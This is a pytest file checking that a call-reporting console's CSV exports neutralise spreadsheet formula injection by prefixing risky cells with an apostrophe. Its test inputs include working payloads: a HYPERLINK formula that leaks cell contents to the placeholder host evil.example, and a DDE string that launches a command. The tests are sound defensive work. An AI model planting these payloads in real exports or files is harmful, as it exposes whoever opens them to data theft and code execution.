"""Every CSV the console writes: a cell that a spreadsheet would run as a formula comes out as plain text."""

from __future__ import annotations

import csv
import io
import uuid

import pytest
from sqlalchemy import select

from store.extension import database
from store.models import Call, CallEvent
from tests.conftest import SignedTwilio, at_paris
from tests.support.console import make_account, sign_in

UN_PREMIER_PAS = "+33199009494"
NOVEMBER = {"from": "2026-11-02", "to": "2026-11-29"}
HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"Cliquez")', "+33 1 99", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def formula_like(cell: str) -> bool:
    from console.spreadsheet import PLAIN_NUMBER

    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not PLAIN_NUMBER.fullmatch(cell)


@pytest.mark.parametrize("value", HOSTILE)
def test_the_one_escaping_function_disarms_every_formula_start(value):
    from console.spreadsheet import spreadsheet_safe

    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["-3", "-2,5", "84.6", "Écoute", "", "a=b"])
def test_figures_and_ordinary_words_are_left_as_they_are(value):
    from console.spreadsheet import spreadsheet_safe

    assert spreadsheet_safe(value) == value


def read(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter))


def test_every_report_table_export_escapes_text_cells_and_headers():
    from console.reports.csv_files import table_csv
    from console.reports.tables import INT, TEXT, Column, Table

    table = Table("forwards", "Renvois", [Column("=label", TEXT), Column("Appels", INT)],
                  [[value, 1] for value in HOSTILE])
    for language, delimiter in (("fr", ";"), ("en", ",")):
        rows = read(table_csv(table, language), delimiter)
        assert rows[0][0] == "'=label"
        assert [row[0] for row in rows[1:]] == ["'" + value for value in HOSTILE]


def test_the_category_export_escapes_tab_and_carriage_return_too(app):
    # Before: its own _safe_cell checked = + - @ only, so "\t=1+1" went out live.
    from console.operations.report import Report, report_csv

    rows = [("2026-11", "Ligne", "Centre", "slug", value, 2) for value in HOSTILE]
    report = Report([], [], {}, {}, {}, rows, len(rows))
    with app.test_request_context("/console/categories/report.csv"):
        written = read(report_csv(report))
    assert [row[4] for row in written[1:]] == ["'" + value for value in HOSTILE]
    assert [row[5] for row in written[1:]] == ["2"] * len(HOSTILE)


def test_a_forward_label_typed_as_a_formula_comes_out_inert_in_forwards_csv(app, clock):
    clock.now = at_paris(2026, 11, 10, 10, 0)
    sid = "CA" + uuid.uuid4().hex
    SignedTwilio(app.test_client()).post("/voice/incoming", {"CallSid": sid, "From": "+33612345678",
                                                             "To": UN_PREMIER_PAS, "CallStatus": "ringing"})
    with app.app_context(), database.session() as session:
        call = session.scalar(select(Call).where(Call.sid == sid))
        call.outcome = "forwarded"
        session.add(CallEvent(call_id=call.id, at=clock.now, kind="forward", detail="forward to " + HOSTILE[0]))
        session.commit()
    clock.now = at_paris(2026, 11, 30, 12, 0)
    make_account(app)
    client = app.test_client()
    sign_in(client)
    response = client.get("/console/reports/lines/un-premier-pas/forwards.csv", query_string=NOVEMBER)
    assert response.status_code == 200
    rows = read(response.get_data(as_text=True), ";")
    assert ["'" + HOSTILE[0], "1"] in rows
    # And no cell of any of the line's exports is formula-like.
    for name in ("summary", "heatmap", "outcomes", "closed", "forwards", "callers", "service", "coverage"):
        exported = client.get(f"/console/reports/lines/un-premier-pas/{name}.csv", query_string=NOVEMBER)
        assert exported.status_code == 200, name
        cells = [cell for row in read(exported.get_data(as_text=True), ";") for cell in row]
        assert not [cell for cell in cells if formula_like(cell)], name
